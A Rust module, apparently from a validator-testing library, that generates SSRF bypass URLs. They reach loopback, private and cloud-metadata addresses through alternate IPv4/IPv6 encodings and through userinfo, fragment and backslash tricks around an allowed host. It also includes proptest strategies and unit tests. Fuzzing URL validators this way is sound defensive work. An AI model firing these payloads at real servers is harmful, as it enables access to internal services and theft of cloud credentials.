//! SSRF payloads: URLs that reach loopback, private and metadata addresses in the forms URL
//! checks get wrong.
//!
//! An address is written in every form parsers disagree on ([`ipv4_forms`], [`ipv6_forms`]):
//! decimal, hex and octal IPv4, short forms, IPv6 that embeds the IPv4 (mapped, NAT64, 6to4).
//! Around an allowed URL ([`tricks_around`]) the tricks are the ones that fool a check of the
//! URL's text: the allowed host as userinfo before the real host, after `#`, `\` or `?`, as a
//! subdomain of the attacker's name.
//!
//! Cost: string formatting only. Whether a URL a validator accepted reaches a special address
//! is the oracle's job ([`crate::oracle::egress`]).

use std::net::{Ipv4Addr, Ipv6Addr};

/// Addresses no server-side fetch should reach: loopback, "this host", private, CGNAT,
/// link-local (the cloud metadata service), and one from each IPv6 special block.
pub const SPECIAL_V4: &[Ipv4Addr] = &[
    Ipv4Addr::new(127, 0, 0, 1),
    Ipv4Addr::new(0, 0, 0, 0),
    Ipv4Addr::new(10, 0, 0, 1),
    Ipv4Addr::new(172, 16, 0, 1),
    Ipv4Addr::new(192, 168, 0, 1),
    Ipv4Addr::new(100, 64, 0, 1),
    Ipv4Addr::new(169, 254, 169, 254),
];

/// IPv6 special addresses written natively (the IPv4 ones are also written embedded).
pub const SPECIAL_V6: &[Ipv6Addr] = &[
    Ipv6Addr::LOCALHOST,
    Ipv6Addr::UNSPECIFIED,
    Ipv6Addr::new(0xfe80, 0, 0, 0, 0, 0, 0, 1),
    Ipv6Addr::new(0xfc00, 0, 0, 0, 0, 0, 0, 1),
    Ipv6Addr::new(0xfd00, 0xec2, 0, 0, 0, 0, 0, 0x254),
];

/// Host names that resolve to loopback on most machines, in forms a denylist misses.
pub const LOOPBACK_NAMES: &[&str] = &[
    "localhost",
    "LOCALHOST",
    "localhost.",
    "localtest.me",
    "127.0.0.1.nip.io",
];

/// An IPv4 address written the ways parsers disagree on (WHATWG and `inet_aton` read all of
/// these as the same address; a regex on dotted quads reads none of them).
pub fn ipv4_forms(address: Ipv4Addr) -> Vec<String> {
    let [a, b, c, d] = address.octets();
    let value = u32::from(address);
    let mut forms = vec![
        address.to_string(),
        value.to_string(),
        format!("0x{value:x}"),
        format!("0{a:o}.0{b:o}.0{c:o}.0{d:o}"),
        format!("{a}.{}", u32::from_be_bytes([0, b, c, d])),
        format!("0x{a:02x}.{b}.{}", u16::from_be_bytes([c, d])),
        format!("[::ffff:{address}]"),
        format!("[64:ff9b::{address}]"),
        format!(
            "[2002:{:x}:{:x}::1]",
            u16::from_be_bytes([a, b]),
            u16::from_be_bytes([c, d])
        ),
    ];
    forms.dedup();
    forms
}

/// An IPv6 address as a URL host, written out and with its zeros spelled.
pub fn ipv6_forms(address: Ipv6Addr) -> Vec<String> {
    let segments = address.segments();
    let mut forms = vec![
        format!("[{address}]"),
        format!(
            "[{}]",
            segments
                .iter()
                .map(|s| format!("{s:x}"))
                .collect::<Vec<_>>()
                .join(":")
        ),
    ];
    forms.dedup();
    forms
}

/// Every special host in every form: the [`SPECIAL_V4`] and [`SPECIAL_V6`] addresses and
/// the [`LOOPBACK_NAMES`].
pub fn special_hosts() -> Vec<String> {
    let mut hosts: Vec<String> = SPECIAL_V4.iter().flat_map(|a| ipv4_forms(*a)).collect();
    hosts.extend(SPECIAL_V6.iter().flat_map(|a| ipv6_forms(*a)));
    hosts.extend(LOOPBACK_NAMES.iter().map(|n| (*n).to_owned()));
    hosts
}

/// URLs that keep the text of `allowed` (an http(s) URL a validator accepts) but reach
/// `special_host`: the allowed host as userinfo, after a fragment or a backslash, in the
/// query, as a subdomain label of the special name. `None` when `allowed` has no host.
pub fn tricks_around(allowed: &str, special_host: &str) -> Option<Vec<String>> {
    let parsed = url::Url::parse(allowed).ok()?;
    let allowed_host = parsed.host_str()?.to_owned();
    let scheme = parsed.scheme();
    let path = parsed.path();
    let s = special_host;
    Some(vec![
        format!("{scheme}://{s}{path}"),
        format!("{scheme}://{allowed_host}@{s}{path}"),
        format!("{scheme}://{allowed_host}:x@{s}{path}"),
        format!("{scheme}://{allowed_host}:443@{s}{path}"),
        format!("{scheme}://{s}#@{allowed_host}{path}"),
        format!("{scheme}://{s}\\@{allowed_host}{path}"),
        format!("{scheme}://{s}/?{allowed_host}"),
        format!("{scheme}://{s}/{allowed_host}{path}"),
        format!("{scheme}://{allowed_host}.{s}{path}"),
    ])
}

#[cfg(feature = "proptest")]
pub use strategies::*;

#[cfg(feature = "proptest")]
mod strategies {
    use super::*;
    use proptest::prelude::*;

    /// URLs to special hosts in every form, with the schemes, ports and paths a check may
    /// treat differently. Shrinks toward `http://127.0.0.1/`.
    pub fn ssrf_urls() -> BoxedStrategy<String> {
        let hosts = special_hosts();
        (
            proptest::sample::select(vec!["http", "https", "HTTP", "ftp", "gopher"]),
            proptest::sample::select(hosts),
            proptest::sample::select(vec!["", ":80", ":443", ":8080", ":6379"]),
            proptest::sample::select(vec!["/", "/latest/meta-data/", "/admin", ""]),
        )
            .prop_map(|(scheme, host, port, path)| format!("{scheme}://{host}{port}{path}"))
            .boxed()
    }

    /// URLs built around `allowed` (a URL the validator accepts) that reach a special host:
    /// see [`tricks_around`]. Panics if `allowed` is not a URL with a host.
    pub fn ssrf_urls_around(allowed: &str) -> BoxedStrategy<String> {
        let urls: Vec<String> = special_hosts()
            .iter()
            .flat_map(|host| tricks_around(allowed, host).expect("an allowed URL with a host"))
            .collect();
        proptest::sample::select(urls).boxed()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_ipv4_form_parses_to_the_same_address() {
        for address in SPECIAL_V4 {
            for form in ipv4_forms(*address) {
                let url = url::Url::parse(&format!("http://{form}/")).unwrap();
                let host = url.host_str().unwrap();
                let embedded = host.starts_with('[');
                if !embedded {
                    assert_eq!(host, address.to_string(), "{form}");
                }
            }
        }
    }

    #[test]
    fn tricks_keep_the_allowed_host_in_the_text() {
        let tricks = tricks_around("https://example.com/api", "127.0.0.1").unwrap();
        assert!(tricks[1..].iter().all(|t| t.contains("example.com")));
        let userinfo = url::Url::parse(&tricks[1]).unwrap();
        assert_eq!(userinfo.host_str(), Some("127.0.0.1"));
        assert!(tricks_around("not a url", "127.0.0.1").is_none());
    }
}
